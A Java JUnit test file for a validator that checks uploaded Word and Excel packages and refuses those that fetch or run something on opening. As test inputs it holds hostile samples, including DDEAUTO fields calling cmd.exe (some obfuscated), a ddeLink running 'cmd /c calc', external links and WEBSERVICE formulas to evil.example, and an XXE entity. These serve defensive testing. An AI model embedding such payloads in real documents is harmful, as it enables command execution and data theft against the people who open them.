package vn.tiendo.file;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files that would fetch or run something when Office opens them (QUALITY S2 to S4). */
class OfficePackageTests {

    private static final FileName NAME = FileName.of("a.docx");
    private static final byte[] PROGRAM = "MZ\u0090 and so on".getBytes(StandardCharsets.ISO_8859_1);

    @TempDir
    private Path folder;

    @ParameterizedTest
    @CsvSource({
        "image, https://evil.example/a.png, External",
        "image, file:///C:\\a.png, External",
        "image, \\\\10.0.0.1\\a.png, External",
        "image, https://evil.example/a.png, Internal",
        "aFChunk, https://evil.example/a.html, External",
        "aFChunk, chunk.html, Internal",
        "externalLinkPath, https://evil.example/a.xlsx, External",
        "externalLinkPath, file:///D:\\a.xlsx, External",
        "oleObject, embeddings/a.dat, Internal",
        "control, activeX1.xml, Internal",
        "oleObject, file:///\\\\10.0.0.1\\a.xlsx, External",
        "video, https://evil.example/a.mp4, External",
        "whatever, https://evil.example/a, External"
    })
    void refusesRelationsThatAreFetchedOnOpening(String type, String target, String mode) throws IOException {
        refused(TestFiles.docxWith("word/_rels/document.xml.rels", relation(type, target, mode)));
        refused(TestFiles.docxWith("xl/externalLinks/_rels/externalLink1.xml.rels", relation(type, target, mode)));
    }

    @Test
    void letsLinksAndPicturesOfItsOwnPass() throws IOException {
        passes(TestFiles.docxWith(
                "word/_rels/document.xml.rels", relation("hyperlink", "https://chinhphu.vn", "External")));
        passes(TestFiles.docxWith("word/_rels/document.xml.rels", relation("image", "media/image1.png", "Internal")));
        passes(TestFiles.docxWith("word/media/image1.png", TestFiles.png()));
        passes(TestFiles.docxWith("docProps/thumbnail.emf", new byte[] {1, 0, 0, 0}));
    }

    @Test
    void letsWhatOfficeProgramsWritePass() throws IOException {
        ByteArrayOutputStream text = new ByteArrayOutputStream();
        try (XWPFDocument document = new XWPFDocument()) {
            document.createParagraph().createRun().setText("Báo cáo kết quả & số liệu <2022>");
            document.createTable(2, 2);
            document.createParagraph().createHyperlinkRun("https://chinhphu.vn").setText("Cổng");
            document.write(text);
        }
        ByteArrayOutputStream sheet = new ByteArrayOutputStream();
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            workbook.createSheet("Số liệu").createRow(0).createCell(0).setCellFormula("SUM(A2:A3)");
            workbook.write(sheet);
        }

        passes(text.toByteArray());
        assertThat(new OfficePackage(written(sheet.toByteArray()), NAME).kind()).isEqualTo(Optional.of(FileKind.XLSX));
    }

    /** Some templates name types of parts that they do not have. */
    @Test
    void mindsNotTheTypesOfPartsThatAreNotThere() throws IOException {
        passes(TestFiles.docxOfTypes("<Default Extension=\"bin\" ContentType=\"application/"
                + "vnd.openxmlformats-officedocument.oleObject\"/>"));
    }

    /** Word may not ask what a relation is called that its settings name as the template. */
    @Test
    void settingsHaveNoLinks() throws IOException {
        refused(TestFiles.docxWith(
                "word/_rels/settings.xml.rels", relation("hyperlink", "https://evil.example/a.dotm", "External")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe\"/>",
                "<w:fldSimple w:instr=\"&#68;DE Excel\"/>",
                "<x:fldSimple x:instr=\"dde Excel\"/>",
                "<w:fldChar w:fldCharType=\"begin\"/><w:instrText> DD</w:instrText><w:instrText>EAUTO x</w:instrText>"
                        + "<w:fldChar w:fldCharType=\"end\"/>",
                "<w:fldChar w:fldCharType=\"begin\"/><w:instrText> <![CDATA[DDE]]> x</w:instrText>",
                "<w:fldChar w:fldCharType=\"begin\"/><w:fldChar w:fldCharType=\"begin\"/>"
                        + "<w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType=\"end\"/>",
                "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>INCLUDEPICTURE \"https://evil.example/\"</w:instrText>"
                        + "<w:fldChar w:fldCharType=\"separate\"/>",
                "<w:p><w:instrText>PAGE</w:instrText></w:p><w:p><w:instrText>DDEAUTO c:</w:instrText></w:p>",
                "<v:imagedata src=\"https://evil.example/a.png\"/>",
            })
    void refusesFieldsThatActByThemselves(String content) throws IOException {
        for (String part : new String[] {"word/document2.xml", "word/header1.xml", "word/footnotes.xml"}) {
            refused(TestFiles.docxWith(part, TestFiles.text("<w:a>" + content + "</w:a>")));
        }
    }

    @Test
    void letsUsualFieldsPass() throws IOException {
        String entry =
                "<w:fldChar w:fldCharType=\"begin\"/><w:instrText> HYPERLINK \"https://a.vn/dde/%1$s\" </w:instrText>"
                        + "<w:fldChar w:fldCharType=\"separate\"/><w:t>dde %1$s</w:t><w:fldChar w:fldCharType=\"end\"/>";
        String toc = "<w:fldChar w:fldCharType=\"begin\"/><w:instrText> TOC \\o </w:instrText>"
                + "<w:fldChar w:fldCharType=\"separate\"/>"
                + Stream.generate(UUID::randomUUID)
                        .limit(2_000)
                        .map(entry::formatted)
                        .collect(Collectors.joining())
                + "<w:fldChar w:fldCharType=\"end\"/>";
        String sum = "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>=</w:instrText>"
                + "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType=\"end\"/>"
                + "<w:fldChar w:fldCharType=\"end\"/>";
        passes(TestFiles.docxWith(
                "word/header1.xml",
                TestFiles.text("<w:a>" + toc + sum + "<w:fldSimple w:instr=\"PAGE\"/><w:t>DDE</w:t></w:a>")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
                "<externalLink><oleLink r:id=\"rId1\"/></externalLink>",
                "<connections><connection id=\"1\" refreshOnLoad=\"1\"/></connections>",
                "<connections><connection id=\"1\"><webPr url=\"https://evil.example/\"/></connection></connections>",
                "<worksheet><f>WEBSERVICE(\"https://evil.example/\"&amp;A1)</f></worksheet>",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"http://127.0.0.1/\">]><a>&b;</a>",
                "<!DOCTYPE a><a/>",
                "<a>&b;</a>",
                "no xml at all"
            })
    void refusesPartsThatFetchOrRun(String content) throws IOException {
        refused(TestFiles.docxWith("xl/part.xml", TestFiles.text(content)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/embeddings/oleObject1.bin",
                "word/embeddings/evil.exe",
                "word/embeddings/other.docx",
                "word/embeddings/book.xlsx",
                "word/media/evil.exe",
                "word/media/script.js",
                "word/media/image1.png",
                "xl/printerSettings/printerSettings1.bin",
                "xl/macrosheets/sheet1.xml",
                "word/webextensions/webextension1.xml"
            })
    void refusesProgramsAndObjectsInside(String part) throws IOException {
        refused(TestFiles.docxWith(part, PROGRAM));
    }

    @Test
    void looksIntoTheWorkbookBehindAChart() throws IOException {
        String place = "word/embeddings/Microsoft_Excel_Sheet1.xlsx";

        passes(TestFiles.docxWith(place, TestFiles.xlsx()));
        refused(TestFiles.docxWith(place, TestFiles.docx()));
        refused(TestFiles.docxWith(
                place,
                TestFiles.xlsxWith(
                        "xl/externalLinks/externalLink1.xml",
                        TestFiles.text("<externalLink><ddeLink/></externalLink>"))));
        refused(TestFiles.docxWith(place, TestFiles.xlsxWith("xl/embeddings/a.xlsx", TestFiles.xlsx())));
        assertThat(folder).isDirectoryNotContaining(file -> !file.endsWith("a"));
    }

    /** What a zip of 400,000 entries says at its end. */
    @Test
    void countsEntriesBeforeReadingThem() throws IOException {
        byte[] docx = TestFiles.docx();
        int end = docx.length - 22;
        docx[end + 10] = (byte) 0xff;
        docx[end + 11] = (byte) 0xff;

        Path file = written(docx);
        assertThatExceptionOfType(FileTooLarge.class).isThrownBy(() -> new OfficePackage(file, NAME).kind());
    }

    @Test
    void refusesWhatEndsOtherwiseThanItSays() throws IOException {
        byte[] docx = TestFiles.docx();
        byte[] longer = java.util.Arrays.copyOf(docx, docx.length + 10);

        refused(longer);
        refused(TestFiles.text("PK"));
    }

    private void passes(byte[] content) throws IOException {
        assertThat(new OfficePackage(written(content), NAME).kind()).isEqualTo(Optional.of(FileKind.DOCX));
    }

    private void refused(byte[] content) throws IOException {
        Path file = written(content);
        assertThatExceptionOfType(FileTypeRefused.class).isThrownBy(() -> new OfficePackage(file, NAME).kind());
    }

    private Path written(byte[] content) throws IOException {
        return Files.write(folder.resolve("a"), content);
    }

    private static byte[] relation(String type, String target, String mode) {
        return TestFiles.text(
                "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
                        + "2006/relationships/%s\" Target=\"%s\" TargetMode=\"%s\"/></Relationships>"
                                .formatted(type, target, mode));
    }
}
